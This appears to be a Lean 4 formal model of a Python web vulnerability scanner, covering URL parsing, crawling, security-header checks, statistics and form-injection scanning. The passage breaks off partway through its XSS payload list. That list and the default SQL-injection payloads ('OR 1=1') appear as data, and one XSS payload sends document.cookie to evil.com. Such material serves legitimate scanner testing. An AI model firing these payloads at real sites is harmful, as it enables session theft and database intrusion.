import Mathlib

/-!
Verification of the WebSentinals crawler/scanner (Snehil0407/Crawler).

Shallow embedding notes.

Python strings are modelled as `List Char`.  The functions of
`urllib.parse` used by `scanner/utils.py` (`urlparse`, `urlunparse` and the
helpers they call) are embedded following CPython 3.11
(`Lib/urllib/parse.py`): WHATWG stripping of leading C0-control/space and
removal of tab/CR/LF, scheme extraction (first char an ASCII letter, all
chars in `scheme_chars`), netloc split at the first of three delimiters,
fragment split before query split, and the params split of `urlparse` for
schemes in `uses_params`.  The `ValueError` checks CPython performs on
bracketed IPv6 netlocs are validation only (they never change the parsed
components); inputs on which CPython raises are outside this model.

Python-level lowercasing is modelled with `Char.toLower`, which agrees with
`str.lower` on ASCII; every string the claims touch is ASCII.

`urljoin` (used by the extractors only for relative hrefs) and the
BeautifulSoup HTML parser are not repository code and the claims do not
depend on their internals; where a function of the repository calls them,
the model takes the joined URL or the extracted attribute lists as input.
-/

namespace Crawler

/-! ## Python string primitives (over `List Char`) -/

/-- Python `str.find(c)`: index of the first occurrence of `c`. -/
def findIdxOf (c : Char) (l : List Char) : Option Nat :=
  l.findIdx? (fun d => d = c)

/-- Python `str.rfind(c)`: index of the last occurrence of `c`. -/
def lastIdxOf (c : Char) (l : List Char) : Option Nat :=
  match l.reverse.findIdx? (fun d => d = c) with
  | none => none
  | some j => some (l.length - 1 - j)

/-- Python `str.find(c, start)`: first occurrence of `c` at index `≥ start`. -/
def findIdxFrom (c : Char) (start : Nat) (l : List Char) : Option Nat :=
  match (l.drop start).findIdx? (fun d => d = c) with
  | none => none
  | some j => some (start + j)

/-- Python `needle in hay` for strings (substring containment). -/
def pyContains (hay needle : List Char) : Bool :=
  if needle.isPrefixOf hay then true
  else
    match hay with
    | [] => false
    | _ :: t => pyContains t needle

/-- ASCII lowercasing of a string, matching `str.lower` on ASCII input. -/
def pyLower (l : List Char) : List Char :=
  l.map Char.toLower

/-! ## urllib.parse (CPython 3.11) -/

/-- `scheme_chars` of `urllib.parse`: ASCII letters, digits and `+`, `-`, `.`. -/
def isSchemeChar (c : Char) : Bool :=
  c.isAlphanum || c = '+' || c = '-' || c = '.'

/-- The WHATWG C0-control-or-space set stripped from the front of a URL. -/
def isC0ControlOrSpace (c : Char) : Bool :=
  c.toNat ≤ 0x20

/-- Tab, CR and LF, removed everywhere in a URL before parsing. -/
def isUnsafeUrlByte (c : Char) : Bool :=
  c = '\t' || c = '\r' || c = '\n'

/-- The cleaning `urlsplit` applies before parsing. -/
def cleanUrl (l : List Char) : List Char :=
  (l.dropWhile isC0ControlOrSpace).filter (fun c => !isUnsafeUrlByte c)

/-- Scheme extraction of `urlsplit`: returns `(scheme, rest)`; the scheme is
lowercased, and `("", url)` is returned when there is no valid scheme. -/
def splitScheme (l : List Char) : List Char × List Char :=
  match findIdxOf (':') l with
  | none => ([], l)
  | some i =>
    if 0 < i ∧ (l.headD (' ')).isAlpha ∧ (l.take i).all isSchemeChar then
      (pyLower (l.take i), l.drop (i + 1))
    else ([], l)

/-- A netloc delimiter (`_splitnetloc` stops at `/`, `?` or `#`). -/
def isNetlocDelim (c : Char) : Bool :=
  c = '/' || c = '?' || c = '#'

/-- Netloc extraction of `urlsplit`: when the rest starts with `//`, the netloc
runs to the first of `/?#`; otherwise the netloc is empty. -/
def splitNetloc (l : List Char) : List Char × List Char :=
  if ('/' :: '/' :: []).isPrefixOf l then
    ((l.drop 2).takeWhile (fun c => !isNetlocDelim c),
     (l.drop 2).dropWhile (fun c => !isNetlocDelim c))
  else ([], l)

/-- Fragment split: `url.split('#', 1)` when `#` occurs. -/
def splitFragment (l : List Char) : List Char × List Char :=
  match findIdxOf ('#') l with
  | none => (l, [])
  | some i => (l.take i, l.drop (i + 1))

/-- Query split: `url.split('?', 1)` when `?` occurs. -/
def splitQuery (l : List Char) : List Char × List Char :=
  match findIdxOf ('?') l with
  | none => (l, [])
  | some i => (l.take i, l.drop (i + 1))

structure SplitResult where
  scheme : List Char
  netloc : List Char
  path : List Char
  query : List Char
  fragment : List Char
  deriving Repr, DecidableEq

/-- `urllib.parse.urlsplit` (with `allow_fragments=True`). -/
def urlsplitChars (u : List Char) : SplitResult :=
  let u0 := cleanUrl u
  let sr := splitScheme u0
  let nr := splitNetloc sr.2
  let pf := splitFragment nr.2
  let pq := splitQuery pf.1
  ⟨sr.1, nr.1, pq.1, pq.2, pf.2⟩

/-- `uses_params` of `urllib.parse` (schemes whose path carries params). -/
def usesParamsSchemes : List (List Char) :=
  [([] : List Char), ("ftp").toList, ("hdl").toList, ("prospero").toList,
   ("http").toList, ("imap").toList, ("https").toList, ("shttp").toList,
   ("rtsp").toList, ("rtsps").toList, ("rtspu").toList, ("sip").toList,
   ("sips").toList, ("mms").toList, ("sftp").toList, ("tel").toList]

def usesParams (scheme : List Char) : Bool :=
  decide (scheme ∈ usesParamsSchemes)

/-- `uses_netloc` of `urllib.parse` (schemes that carry a network location). -/
def usesNetlocSchemes : List (List Char) :=
  [([] : List Char), ("ftp").toList, ("http").toList, ("gopher").toList,
   ("nntp").toList, ("telnet").toList, ("imap").toList, ("wais").toList,
   ("file").toList, ("mms").toList, ("https").toList, ("shttp").toList,
   ("snews").toList, ("prospero").toList, ("rtsp").toList, ("rtsps").toList,
   ("rtspu").toList, ("rsync").toList, ("svn").toList, ("svn+ssh").toList,
   ("sftp").toList, ("nfs").toList, ("git").toList, ("git+ssh").toList,
   ("ws").toList, ("wss").toList]

def usesNetloc (scheme : List Char) : Bool :=
  decide (scheme ∈ usesNetlocSchemes)

/-- `urllib.parse._splitparams`: split `path;params` at the first `;` found in
the last path segment.  Only called when `;` occurs in the path. -/
def splitParams (l : List Char) : List Char × List Char :=
  if ('/') ∈ l then
    match findIdxFrom (';') ((lastIdxOf ('/') l).getD 0) l with
    | none => (l, [])
    | some i => (l.take i, l.drop (i + 1))
  else
    match findIdxOf (';') l with
    | none => (l, [])  -- unreachable: the caller checked that `;` occurs
    | some i => (l.take i, l.drop (i + 1))

structure ParseResult where
  scheme : List Char
  netloc : List Char
  path : List Char
  params : List Char
  query : List Char
  fragment : List Char
  deriving Repr, DecidableEq

/-- `urllib.parse.urlparse`. -/
def urlparseChars (u : List Char) : ParseResult :=
  let s := urlsplitChars u
  if usesParams s.scheme ∧ (';') ∈ s.path then
    let pp := splitParams s.path
    ⟨s.scheme, s.netloc, pp.1, pp.2, s.query, s.fragment⟩
  else
    ⟨s.scheme, s.netloc, s.path, [], s.query, s.fragment⟩

/-- The params-extraction step of `urlparse` as a function of the scheme and
the split path: `_splitparams` is applied exactly when the scheme uses params
and a `;` occurs in the path. -/
def paramsOf (scheme path : List Char) : List Char × List Char :=
  if usesParams scheme ∧ (';') ∈ path then splitParams path else (path, [])

/-- Rejoin path and params the way `urlunparse` does (`"%s;%s"` when params
are nonempty). -/
def joinParams (path params : List Char) : List Char :=
  if params ≠ [] then path ++ (';') :: params else path

/-- `urllib.parse.urlunsplit`. -/
def urlunsplitChars (c : SplitResult) : List Char :=
  let url := c.path
  let url :=
    if c.netloc ≠ [] ∨
        (c.scheme ≠ [] ∧ usesNetloc c.scheme ∧
          ¬ (('/' :: '/' :: []).isPrefixOf url)) then
      ('/') :: ('/') :: (c.netloc ++
        (if url ≠ [] ∧ url.headD ('/') ≠ '/' then ('/') :: url else url))
    else url
  let url := if c.scheme ≠ [] then c.scheme ++ (':') :: url else url
  let url := if c.query ≠ [] then url ++ ('?') :: c.query else url
  if c.fragment ≠ [] then url ++ ('#') :: c.fragment else url

/-- `urllib.parse.urlunparse`. -/
def urlunparseChars (p : ParseResult) : List Char :=
  urlunsplitChars ⟨p.scheme, p.netloc, joinParams p.path p.params, p.query, p.fragment⟩

/-! ## scanner/utils.py -/

/-- The path rewrite of `normalize_url`: an empty path becomes `/`, and one
trailing slash is removed from a path of length `> 1`. -/
def normalizePath (path : List Char) : List Char :=
  let path := if path = [] then ('/') :: [] else path
  if path.getLast? = some ('/') ∧ 1 < path.length then path.dropLast else path

/-- `normalize_url` of `scanner/utils.py`: parse, drop the fragment, rewrite
the path, unparse. -/
def normalize_url (u : List Char) : List Char :=
  let parsed := urlparseChars u
  let parsed := { parsed with fragment := [] }
  let parsed := { parsed with path := normalizePath parsed.path }
  urlunparseChars parsed

/-- `normalize_url` lifted to `String`. -/
def normalizeUrlStr (s : String) : String :=
  ⟨normalize_url s.toList⟩

/-- `is_valid_url` of `scanner/utils.py`: scheme and netloc both truthy. -/
def is_valid_url (u : List Char) : Bool :=
  (urlparseChars u).scheme ≠ [] ∧ (urlparseChars u).netloc ≠ []

/-- `get_base_url` of `scanner/utils.py`: `f"{scheme}://{netloc}"`. -/
def get_base_url (u : List Char) : List Char :=
  (urlparseChars u).scheme ++ ("://").toList ++ (urlparseChars u).netloc

/-- `is_same_domain` of `scanner/utils.py`: equality of base URLs.  Note this
is a plain string comparison of `scheme://netloc`, not a registrable-domain
comparison. -/
def is_same_domain (u1 u2 : List Char) : Bool :=
  get_base_url u1 = get_base_url u2

/-- The loop body of `extract_links` for one `href`/`src` attribute value:
absolutize relative hrefs through `urljoin`, normalize, then keep the link
only when it is valid and on the same domain as the base URL. -/
def processHref (urljoin : List Char → List Char → List Char)
    (base_url href : List Char) : Option (List Char) :=
  let href := if (("http://").toList.isPrefixOf href) ∨
                 (("https://").toList.isPrefixOf href) then href
              else urljoin base_url href
  let href := normalize_url href
  if is_valid_url href && is_same_domain href base_url then some href else none

/-- Duplicate removal standing for Python `list(set(...))` (order is
unspecified in Python; membership is what matters). -/
def pyDedup : List (List Char) → List (List Char)
  | [] => []
  | x :: xs => if x ∈ xs then pyDedup xs else x :: pyDedup xs

/-- `extract_links` of `scanner/utils.py`.  BeautifulSoup is abstracted: the
`href`/`src` attribute values collected from `a`, `link`, `script` and `img`
tags are the input `hrefs`, and `urllib.parse.urljoin` (applied only to
relative hrefs) is a parameter.  The final `list(set(links))` becomes
`pyDedup`. -/
def extract_links (urljoin : List Char → List Char → List Char)
    (hrefs : List (List Char)) (base_url : List Char) : List (List Char) :=
  pyDedup (hrefs.filterMap (processHref urljoin base_url))

/-- `is_error_response` of `scanner/utils.py`: status code `>= 400`. -/
def is_error_response (status_code : Nat) : Bool :=
  400 ≤ status_code

/-- `get_error_type` of `scanner/utils.py`. -/
def get_error_type (status_code : Nat) : String :=
  if 500 ≤ status_code then ("server_error")
  else if 400 ≤ status_code then ("client_error")
  else ("unknown")

/-- The `sql_errors` signature list of `is_vulnerable_to_sql_injection` in
`scanner/utils.py` (verbatim, duplicates included). -/
def sql_errors : List String :=
  [("SQL syntax"), ("mysql_fetch_array"), ("mysql_fetch_assoc"),
   ("mysql_num_rows"), ("mysql_result"), ("mysql_query"), ("mysql error"),
   ("ORA-"), ("SQLite/JDBCDriver"), ("SQLite.Exception"),
   ("System.Data.SQLite.SQLiteException"), ("Warning: mysql_"),
   ("PostgreSQL.*ERROR"), ("Warning.*pg_"), ("valid PostgreSQL result"),
   ("Npgsql."), ("Microsoft SQL Server"), ("ODBC SQL Server Driver"),
   ("SQLServer JDBC Driver"), ("com.microsoft.sqlserver.jdbc"),
   ("SQLServerException"), ("SQLServer JDBC Driver"), ("SQLServerDriver"),
   ("SQLServer"), ("SQLite/JDBCDriver"), ("SQLite.Exception"),
   ("System.Data.SQLite.SQLiteException"), ("Warning: mysql_"),
   ("valid MySQL result"),
   ("check the manual that corresponds to your (MySQL|MariaDB) server version"),
   ("Unknown column"), ("MySqlClient."), ("com.mysql.jdbc.exceptions")]

/-- `is_vulnerable_to_sql_injection` of `scanner/utils.py`: the payload is
unused; the lowercased response body is searched for each lowercased
signature. -/
def is_vulnerable_to_sql_injection (response_text : String) (_payload : String) : Bool :=
  sql_errors.any (fun e => pyContains (pyLower response_text.toList) (pyLower e.toList))

/-! ## extract_headers (scanner/utils.py) and the missing-header findings
     (scanner/scanner.py lines 207-222) -/

structure HeaderInfo where
  description : String
  consequences : String
  deriving Repr, DecidableEq

/-- The `security_headers` dict of `extract_headers`, in insertion order.
Python 3.7+ dicts iterate in insertion order, so the order below is the
order findings are emitted in. -/
def security_headers : List (String × HeaderInfo) :=
  [((("X-Frame-Options") : String),
    ⟨("Protects against clickjacking attacks"),
     ("Without this header, attackers could embed your site in a malicious webpage and trick users into clicking on elements they didn\x27t intend to, potentially leading to unwanted actions or data theft.")⟩),
   ((("X-Content-Type-Options") : String),
    ⟨("Prevents MIME-sniffing attacks"),
     ("Without this header, browsers might interpret files as a different type than what you intended, allowing attackers to potentially execute malicious scripts even when they shouldn\x27t be executable.")⟩),
   ((("X-XSS-Protection") : String),
    ⟨("Provides protection against cross-site scripting"),
     ("Without this header, malicious scripts could be injected into your webpage and execute in users\x27 browsers, potentially stealing cookies, session tokens, or other sensitive information.")⟩),
   ((("Content-Security-Policy") : String),
    ⟨("Controls resources the browser is allowed to load"),
     ("Without this header, your site could load resources from any source, making it vulnerable to script injection attacks that could compromise user data or take control of page behavior.")⟩),
   ((("Strict-Transport-Security") : String),
    ⟨("Forces HTTPS connections"),
     ("Without this header, communications between your site and users might be downgraded to insecure HTTP, allowing attackers to intercept and modify data in transit, or perform man-in-the-middle attacks.")⟩),
   ((("Referrer-Policy") : String),
    ⟨("Controls how much referrer information is included with requests"),
     ("Without this header, sensitive information might be leaked in the referrer header when users navigate from your site to other sites, potentially exposing private data or user activity.")⟩)]

/-- Membership test of `requests.structures.CaseInsensitiveDict`
(`header in response.headers`): comparison of lowercased keys. -/
def ciMember (hdrs : List (String × String)) (name : String) : Bool :=
  hdrs.any (fun kv => pyLower kv.1.toList = pyLower name.toList)

/-- Lookup of `CaseInsensitiveDict` (`response.headers[header]`). -/
def ciGet (hdrs : List (String × String)) (name : String) : Option String :=
  (hdrs.find? (fun kv => pyLower kv.1.toList = pyLower name.toList)).map (fun kv => kv.2)

structure HeadersResult where
  found : List (String × String)
  missing : List (String × HeaderInfo)
  deriving Repr, DecidableEq

/-- `extract_headers` of `scanner/utils.py`: split the six tracked headers
into found (with their response value) and missing (with their info). -/
def extract_headers (hdrs : List (String × String)) : HeadersResult :=
  { found := security_headers.foldr (fun hi acc =>
      match ciGet hdrs hi.1 with
      | some v => (hi.1, v) :: acc
      | none => acc) [],
    missing := security_headers.filter (fun hi => ¬ ciMember hdrs hi.1) }

/-- `header.lower().replace('-', '_')` of `scanner/scanner.py:214`. -/
def pyLowerUnderscore (s : String) : String :=
  ⟨s.toList.map (fun c => if Char.toLower c = '-' then '_' else Char.toLower c)⟩

structure HeaderFinding where
  vtype : String
  url : String
  header_name : String
  header_description : String
  description : String
  recommendation : String
  severity : String
  consequences : String
  deriving Repr, DecidableEq

/-- The missing-security-header loop of `Scanner._scan_url`
(`scanner/scanner.py` lines 207-222): one `missing_*` vulnerability per
missing tracked header. -/
def missing_header_findings (url : String) (hdrs : List (String × String)) :
    List HeaderFinding :=
  (extract_headers hdrs).missing.map (fun hi =>
    { vtype := ("missing_") ++ pyLowerUnderscore hi.1,
      url := url,
      header_name := hi.1,
      header_description := hi.2.description,
      description := ("Missing ") ++ hi.1 ++ (": ") ++ hi.2.description,
      recommendation := ("Implement the ") ++ hi.1 ++ (" header to improve security"),
      severity := ("Medium"),
      consequences := hi.2.consequences })

/-! ## ScanStats (scanner/stats.py)

Response times are modelled as rationals; Python floats agree with exact
rational arithmetic up to rounding, and `float('inf')` (the initial
`min_response_time`) is modelled as `⊤ : WithTop ℚ`. -/

/-- Python dict update `d[k] = d.get(k, 0) + 1`: an existing key is updated
in place, a fresh key is appended (Python dicts preserve insertion order). -/
def dictIncr {α : Type} [DecidableEq α] (k : α) (d : List (α × Nat)) : List (α × Nat) :=
  if d.any (fun kv => kv.1 = k) then
    d.map (fun kv => if kv.1 = k then (kv.1, kv.2 + 1) else kv)
  else d ++ [(k, 1)]

structure ScanStats where
  total_urls_scanned : Nat
  total_requests : Nat
  total_errors : Nat
  total_vulnerabilities : Nat
  vulnerabilities_by_type : List (String × Nat)
  errors_by_type : List (String × Nat)
  response_codes : List (Nat × Nat)
  scanned_urls : List String
  vulnerable_urls : List (String × String)
  avg_response_time : ℚ
  total_response_time : ℚ
  min_response_time : WithTop ℚ
  max_response_time : ℚ

/-- The default keys of `vulnerabilities_by_type` in `ScanStats.__init__`. -/
def initialVulnTypes : List (String × Nat) :=
  [((("xss") : String), 0), ((("sql_injection") : String), 0),
   ((("broken_access_control") : String), 0),
   ((("crypto_failure_no_https") : String), 0),
   ((("crypto_failure_insecure_cookies") : String), 0),
   ((("crypto_failure_outdated_tls") : String), 0),
   ((("insecure_design_csrf") : String), 0),
   ((("insecure_design_no_rate_limiting") : String), 0)]

/-- `ScanStats.__init__` (times and counters; `start_time`/`end_time` wall
clock values are not modelled). -/
def ScanStats.init : ScanStats :=
  ⟨0, 0, 0, 0, initialVulnTypes, [], [], [], [], 0, 0, ⊤, 0⟩

/-- `ScanStats.add_url`. -/
def ScanStats.add_url (st : ScanStats) (url : String) : ScanStats :=
  { st with scanned_urls := st.scanned_urls ++ [url],
            total_urls_scanned := st.total_urls_scanned + 1 }

/-- `ScanStats.add_error`. -/
def ScanStats.add_error (st : ScanStats) (error_type : String) : ScanStats :=
  { st with total_errors := st.total_errors + 1,
            errors_by_type := dictIncr error_type st.errors_by_type }

/-- `ScanStats.add_vulnerability` (the `details` payload of the recorded
entry is reduced to the `(type, url)` pair; timestamps are not modelled). -/
def ScanStats.add_vulnerability (st : ScanStats) (vuln_type : String) (url : String) :
    ScanStats :=
  { st with total_vulnerabilities := st.total_vulnerabilities + 1,
            vulnerabilities_by_type := dictIncr vuln_type st.vulnerabilities_by_type,
            vulnerable_urls := st.vulnerable_urls ++ [(vuln_type, url)] }

/-- `ScanStats.add_response`. -/
def ScanStats.add_response (st : ScanStats) (status_code : Nat) (response_time : ℚ) :
    ScanStats :=
  let total_requests := st.total_requests + 1
  let total_response_time := st.total_response_time + response_time
  { st with
      total_requests := total_requests,
      response_codes := dictIncr status_code st.response_codes,
      total_response_time := total_response_time,
      avg_response_time := total_response_time / (total_requests : ℚ),
      min_response_time := min st.min_response_time ((response_time : ℚ) : WithTop ℚ),
      max_response_time := max st.max_response_time response_time }

/-- The `performance_metrics` entry of `ScanStats.get_summary` (and of
`Scanner._get_summary`): the three response-time fields as reported. -/
def ScanStats.performance_metrics (st : ScanStats) : ℚ × WithTop ℚ × ℚ :=
  (st.avg_response_time, st.min_response_time, st.max_response_time)

/-! ## The Scanner crawl (scanner/scanner.py)

`Scanner._scan_url` is a sequential recursive procedure (no worker pool:
`ThreadPoolExecutor` is imported by `scanner.py` but never used).  The
environment the scanner probes is a `World`: per-URL, per-attempt fetch
outcomes (`none` models a `requests.RequestException`), the raw href
attributes and forms BeautifulSoup would extract from the fetched body, and
oracles for the vulnerability findings of the sub-scanners whose internals
the crawl claims do not touch (`_scan_form` is modelled precisely in its
own section below). -/

structure FormInput where
  itype : String
  name : String
  value : String
  deriving Repr, DecidableEq

structure Form where
  action : String
  method : String
  inputs : List FormInput
  deriving Repr, DecidableEq

structure Page where
  status_code : Nat
  elapsed : ℚ
  headers : List (String × String)
  hrefs : List String
  forms : List Form

structure World where
  fetch : String → Nat → Option Page
  urljoin : List Char → List Char → List Char
  urlParamVulns : String → List String
  formVulns : String → Form → List String
  analyzerVulns : String → Page → List String

structure ScanConfig where
  max_depth : Nat
  max_pages : Nat
  max_retries : Nat
  scan_xss : Bool
  scan_forms : Bool
  scan_links : Bool
  scan_headers : Bool
  scan_owasp : Bool

structure ScanState where
  visited_urls : List String
  vulnerabilities : List (String × String)
  scanned_links : List (String × String)
  scanned_forms : List (String × Form)
  stats : ScanStats
  retry_sleeps : Nat

/-- The state of a fresh `Scanner` (`Scanner.__init__`). -/
def ScanState.init : ScanState :=
  ⟨[], [], [], [], ScanStats.init, 0⟩

/-- `Scanner._add_vulnerability` (timestamp and `file` name not modelled):
append to the vulnerability list and update the stats. -/
def ScanState.addVulnerability (st : ScanState) (vuln_type url : String) : ScanState :=
  { st with vulnerabilities := st.vulnerabilities ++ [(vuln_type, url)],
            stats := st.stats.add_vulnerability vuln_type url }

/-- The retry loop of `Scanner._make_request`: `attempt` is the current
index, the second argument the number of attempts left
(`max_retries - attempt`).  Returns the response (or `none` after the last
failed attempt) together with the number of `time.sleep(scan_delay)` calls
made.  A `none` fetch outcome is a `requests.RequestException`. -/
def makeRequestAux (w : World) (url : String) : Nat → Nat → Option Page × Nat
  | _, 0 => (none, 0)
  | attempt, Nat.succ rem =>
    match w.fetch url attempt with
    | some page => (some page, 0)
    | none =>
      if rem = 0 then (none, 0)
      else
        let r := makeRequestAux w url (attempt + 1) rem
        (r.1, r.2 + 1)

/-- `Scanner._make_request`: up to `max_retries` attempts in total, sleeping
`scan_delay` between consecutive attempts, `none` when all fail. -/
def make_request (cfg : ScanConfig) (w : World) (url : String) : Option Page × Nat :=
  makeRequestAux w url 0 cfg.max_retries

/-- The URL-parameter XSS block of `_scan_url` (lines 176-178): one
`reflected_xss` finding per detection reported by
`xss_scanner.scan_url_parameters` (abstracted as `w.urlParamVulns`). -/
def xssUrlParamsStep (cfg : ScanConfig) (w : World) (url : String)
    (st : ScanState) : ScanState :=
  if cfg.scan_xss then
    (w.urlParamVulns url).foldl
      (fun s _detail => s.addVulnerability (("reflected_xss") : String) url) st
  else st

/-- The form block of `_scan_url` (lines 180-193): record each extracted
form, then add the `_scan_form` findings (abstracted as `w.formVulns`;
`_scan_form` itself is modelled precisely in its own section). -/
def formsStep (cfg : ScanConfig) (w : World) (url : String) (page : Page)
    (st : ScanState) : ScanState :=
  if cfg.scan_forms then
    page.forms.foldl (fun s f =>
      let s := { s with scanned_forms := s.scanned_forms ++ [(url, f)] }
      (w.formVulns url f).foldl (fun s2 t => s2.addVulnerability t url) s) st
  else st

/-- The link block of `_scan_url` (lines 195-206): record each extracted
link in `scanned_links`, then recurse (`recurse`) on same-domain links. -/
def linksStep (cfg : ScanConfig) (w : World)
    (recurse : String → ScanState → ScanState) (url : String) (page : Page)
    (st : ScanState) : ScanState :=
  if cfg.scan_links then
    (extract_links w.urljoin (page.hrefs.map String.toList) url.toList).foldl
      (fun s linkChars =>
        let link : String := ⟨linkChars⟩
        let s := { s with scanned_links := s.scanned_links ++ [(url, link)] }
        if is_same_domain link.toList url.toList then recurse link s else s) st
  else st

/-- The security-header block of `_scan_url` (lines 207-222). -/
def headersStep (cfg : ScanConfig) (url : String) (page : Page)
    (st : ScanState) : ScanState :=
  if cfg.scan_headers then
    (missing_header_findings url page.headers).foldl
      (fun s f => s.addVulnerability f.vtype url) st
  else st

/-- The OWASP analyzer block of `_scan_url` (lines 224-264): the findings
of the per-category checks (crypto, misconfiguration, components, auth,
integrity, logging, SSRF), abstracted as `w.analyzerVulns`; `scan_owasp`
stands for `HAS_OWASP_SCANNERS` together with the per-category flags. -/
def owaspStep (cfg : ScanConfig) (w : World) (url : String) (page : Page)
    (st : ScanState) : ScanState :=
  if cfg.scan_owasp then
    (w.analyzerVulns url page).foldl (fun s t => s.addVulnerability t url) st
  else st

/-- `Scanner._scan_url`, fuel-indexed.  The fuel only bounds the recursion
depth for Lean's sake: every run below starts with fuel
`max_depth + 2`, and since each recursive call increments `depth` while the
`depth > max_depth` guard stops the body, the fuel-zero branch is never the
deciding one.  The body follows `scanner/scanner.py` lines 146-272: depth
guard, page budget guard, normalize, visited check-and-insert, fetch with
retries, response stats, error short-circuit, then the five blocks in
source order (URL-parameter XSS, forms, links with recursion, headers,
OWASP analyzers; the rate-limit sleep is not modelled). -/
def scanUrlFuel (cfg : ScanConfig) (w : World) :
    Nat → Nat → String → ScanState → ScanState
  | 0, _, _, st => st
  | Nat.succ fuel, depth, url, st =>
    if cfg.max_depth < depth then st
    else if cfg.max_pages ≤ st.visited_urls.length then st
    else
    let url := normalizeUrlStr url
    if url ∈ st.visited_urls then st
    else
    let st : ScanState :=
      { st with visited_urls := st.visited_urls ++ [url],
                stats := st.stats.add_url url }
    match make_request cfg w url with
    | (none, slp) => { st with retry_sleeps := st.retry_sleeps + slp }
    | (some page, slp) =>
      let st := { st with retry_sleeps := st.retry_sleeps + slp }
      let st := { st with stats := st.stats.add_response page.status_code page.elapsed }
      if is_error_response page.status_code then
        { st with stats := st.stats.add_error (get_error_type page.status_code) }
      else
        owaspStep cfg w url page
          (headersStep cfg url page
            (linksStep cfg w (scanUrlFuel cfg w fuel (depth + 1)) url page
              (formsStep cfg w url page
                (xssUrlParamsStep cfg w url st))))

/-- The crawl started by `Scanner.start_scan` on a fresh scanner:
`_scan_url(start_url, depth=0)` from the initial state. -/
def crawlFromSeed (cfg : ScanConfig) (w : World) (seed : String) : ScanState :=
  scanUrlFuel cfg w (cfg.max_depth + 2) 0 seed ScanState.init

/-! ## Scanner.start_scan state reset (scanner/scanner.py lines 121-130)

`start_scan` reassigns `self.stats`, `self.vulnerabilities`,
`self.scanned_links` and `self.scanned_forms` and sets `self.scan_id`
(generating one when the argument is falsy; the generated `uuid4` string is
a parameter here).  It contains no assignment to `self.visited_urls`. -/

structure ScannerState where
  stats : ScanStats
  visited_urls : List String
  vulnerabilities : List (String × String)
  scanned_links : List (String × String)
  scanned_forms : List (String × Form)
  scan_id : Option String

/-- The reset phase of `Scanner.start_scan`, before any scanning occurs. -/
def start_scan_reset (s : ScannerState) (scan_id : Option String)
    (generated_uuid : String) : ScannerState :=
  { s with stats := ScanStats.init,
           vulnerabilities := [],
           scanned_links := [],
           scanned_forms := [],
           scan_id := some (match scan_id with
                            | some i => i
                            | none => generated_uuid) }

/-! ## Scanner._scan_form (scanner/scanner.py lines 295-398)

The model records every injection request issued (its form-data dict) so
that claims about payload placement and early stopping are statements about
the request log.  The response to a request is an oracle from the sent data
to the response body; `is_vulnerable_to_xss` delegates to
`xss_scanner.is_vulnerable_to_xss_advanced` (BeautifulSoup-based), which is
abstracted as the `isVulnXss` predicate parameter.  The insecure-design
sub-check (A04) between the two payload loops issues one plain GET of the
form action and contributes analyzer findings only — no payload
substitution — and is omitted here, as is the per-payload `try/except`
(the oracle is total). -/

/-- Python dict assignment `d[k] = v`: update in place or append. -/
def dictSet (k v : String) (d : List (String × String)) : List (String × String) :=
  if d.any (fun kv => kv.1 = k) then
    d.map (fun kv => if kv.1 = k then (kv.1, v) else kv)
  else d ++ [(k, v)]

/-- Python dict lookup `d.get(k)`. -/
def dictGet (k : String) (d : List (String × String)) : Option String :=
  (d.find? (fun kv => kv.1 = k)).map (fun kv => kv.2)

/-- The `data` dict built for one payload in `_scan_form` (both the SQL and
the XSS loop): every input whose type is not `submit`/`button`/`image` is
mapped to the payload. -/
def build_injection_data (inputs : List FormInput) (payload : String) :
    List (String × String) :=
  inputs.foldl (fun d inp =>
    if inp.itype = ("submit") ∨ inp.itype = ("button") ∨ inp.itype = ("image") then d
    else dictSet inp.name payload d) []

/-- The SQL-injection loop of `_scan_form`: one request per payload, no
early exit; a finding is added whenever `is_vulnerable_to_sql_injection`
fires on the response body.  Returns the request log (the data dicts sent,
in order) and the findings. -/
def scanFormSql (respond : List (String × String) → String)
    (sql_payloads : List String) (form : Form) (url : String) :
    List (List (String × String)) × List (String × String) :=
  sql_payloads.foldl (fun acc payload =>
    let data := build_injection_data form.inputs payload
    let text := respond data
    if is_vulnerable_to_sql_injection text payload then
      (acc.1 ++ [data], acc.2 ++ [((("sql_injection") : String), url)])
    else (acc.1 ++ [data], acc.2)) ([], [])

/-- The XSS loop of `_scan_form`: requests stop with `break` at the first
payload the detector confirms for this form. -/
def scanFormXss (respond : List (String × String) → String)
    (isVulnXss : String → String → Bool) (form : Form) (url : String) :
    List String → List (List (String × String)) × List (String × String)
  | [] => ([], [])
  | payload :: rest =>
    let data := build_injection_data form.inputs payload
    let text := respond data
    if isVulnXss text payload then ([data], [((("xss") : String), url)])
    else
      let r := scanFormXss respond isVulnXss form url rest
      (data :: r.1, r.2)

/-- `Scanner._scan_form`: nothing happens for a form without inputs;
otherwise the SQL loop runs over all SQL payloads and then the XSS loop
runs with early exit.  Result: ((sql requests, sql findings),
(xss requests, xss findings)). -/
def scan_form (respond : List (String × String) → String)
    (isVulnXss : String → String → Bool)
    (sql_payloads xss_payloads : List String) (form : Form) (url : String) :
    (List (List (String × String)) × List (String × String)) ×
    (List (List (String × String)) × List (String × String)) :=
  if form.inputs = [] then (([], []), ([], []))
  else (scanFormSql respond sql_payloads form url,
        scanFormXss respond isVulnXss form url xss_payloads)

/-- The built-in default SQL payloads of `load_payloads`
(`scanner/config.py`) used when no payload file exists. -/
def default_sql_payloads : List String :=
  [("\x27 OR 1=1--"), ("\x27 OR 1=1#"), ("\x27 OR 1=1/*")]

/-- `XSS_PAYLOADS` of `scanner/xss_scanner.py` (the list `_scan_form`
iterates when the module imports, which it does in this repository). -/
def XSS_PAYLOADS : List String :=
  [("<script>alert(1)</script>"),
   ("<img src=x onerror=alert(1)>"),
   ("<svg onload=alert(1)>"),
   ("<body onload=alert(1)>"),
   ("javascript:alert(1)"),
   ("<iframe src=\"javascript:alert(1)\"></iframe>"),
   ("<script>document.cookie</script>"),
   ("\"><script>alert(1)</script>"),
   ("\x27;alert(1);//"),
   ("<img src=\"x\" onerror=\"alert(document.domain)\">"),
   ("<script>fetch(\x27https://evil.com?cookie=\x27+document.cookie)</script>"),
   ("<div style=\"background-image: url(javascript:alert(1))\">"),
   ("<a href=\"javascript:alert(1)\">Click me</a>"),
   ("<a onmouseover=\"alert(1)\">hover me</a>"),
   ("<ScRiPt>alert(1)</ScRiPt>"),
   ("<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"),
   ("<input onfocus=alert(1) autofocus>"),
   ("<marquee onstart=alert(1)>"),
   ("<details open ontoggle=alert(1)>"),
   ("<video src=1 onerror=alert(1)>"),
